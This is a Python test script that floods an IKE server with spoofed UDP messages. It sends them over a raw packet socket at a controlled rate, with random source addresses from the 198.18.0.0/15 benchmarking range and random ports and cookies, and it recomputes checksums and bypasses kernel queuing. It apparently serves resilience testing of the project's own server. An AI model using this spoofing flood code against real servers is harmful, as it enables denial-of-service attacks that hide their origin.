"""Spoofed IKE messages at a rate, in a process of its own: `python flood.py '<JSON>'`.

Every message has a random source in 198.18.0.0/15 (RFC 2544: for tests), a random port and random
cookies: the initiator's, or both. Prints, as JSON, what was really sent. Standard library only,
and no more work a frame than it takes: it shares two cores with the server that it attacks.
"""

from __future__ import annotations

import errno
import json
import random
import socket
import struct
import sys
import time
from dataclasses import asdict, dataclass

SOURCES = "198.18.0.0/15"
_FIRST_SOURCE = 0xC6120000
_TICK_SECONDS = 0.002
_MESSAGE = 42  # where the UDP payload begins in a frame
_PACKET_QDISC_BYPASS = 20
_SOL_PACKET = 263


@dataclass(frozen=True, slots=True)
class Order:
    """`frames` are templates in hex, one for each port; the cookies follow `cookie_at` octets
    into the payload."""

    device: str
    frames: tuple[tuple[str, int], ...]  # frame, cookie_at
    rate: int  # frames a second
    seconds: float
    seed: int
    cookies: int = 1  # 2: messages of exchanges that the server never knew
    copies: int = 1  # of each message


@dataclass(frozen=True, slots=True)
class Flood:
    """What was sent."""

    datagrams: int
    octets: int  # of UDP payload
    seconds: float
    refused: int  # by the kernel, because its queue was full

    @property
    def rate(self) -> float:
        """Datagrams a second."""
        return self.datagrams / self.seconds


class _Template:
    """A frame whose source and cookie change; the checksum of the rest is known."""

    def __init__(self, frame: bytes, cookie_at: int, cookies: int) -> None:
        self._frame = bytearray(frame)
        self._cookie_at = _MESSAGE + cookie_at
        self._frame[24:30] = bytes(6)  # checksum and source
        self._destination = int.from_bytes(self._frame[30:34], "big")
        self._cookies = struct.Struct(f"!{cookies}Q")
        self._sum = sum(struct.unpack_from("!10H", self._frame, 14))
        self.octets = len(frame) - _MESSAGE

    def fill(self, drawn: int) -> bytearray:
        """`drawn` has 128 random bits."""
        frame = self._frame
        source = _FIRST_SOURCE | (drawn & 0x1FFFF)
        total = self._sum + (source >> 16) + (source & 0xFFFF)
        total = (total & 0xFFFF) + (total >> 16)
        total = (total & 0xFFFF) + (total >> 16)
        port = drawn >> 17 & 0xFFFF | 1
        struct.pack_into("!HIIH", frame, 24, total ^ 0xFFFF, source, self._destination, port)
        self._cookies.pack_into(frame, self._cookie_at, *self._draw(drawn >> 40))
        return frame

    def _draw(self, drawn: int) -> tuple[int, ...]:
        cookie = drawn & 0xFFFFFFFFFFFFFFFF | 1
        return (cookie, cookie ^ 0xFFFFFFFFFFFFFFFF)[: self._cookies.size // 8]


def run(order: Order) -> Flood:
    """Send for `order.seconds`, in ticks; what a late tick owes is sent by the next."""
    templates = [_Template(bytes.fromhex(frame), at, order.cookies) for frame, at in order.frames]
    template = templates[0]
    rng = random.Random(order.seed)
    out = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
    out.setsockopt(_SOL_PACKET, _PACKET_QDISC_BYPASS, 1)
    out.bind((order.device, 0))
    sent = octets = refused = drawn = 0
    most = int(order.rate * order.seconds)
    began = time.monotonic()
    while sent + refused < most:
        elapsed = time.monotonic() - began
        if elapsed > 2 * order.seconds:  # a machine too slow: say so by the numbers
            break
        for _ in range(min(most, int(elapsed * order.rate)) - sent - refused):
            if sent % order.copies == 0:
                template = templates[sent // order.copies % len(templates)]
                drawn = rng.getrandbits(128)
            try:
                out.send(template.fill(drawn))
            except OSError as error:
                if error.errno not in (errno.ENOBUFS, errno.EAGAIN):
                    raise
                refused += 1
            else:
                sent += 1
                octets += template.octets
        time.sleep(_TICK_SECONDS)
    return Flood(sent, octets, time.monotonic() - began, refused)


def main() -> None:
    flood = run(Order(**json.loads(sys.argv[1])))
    print(json.dumps(asdict(flood)))  # noqa: T201


if __name__ == "__main__":
    main()
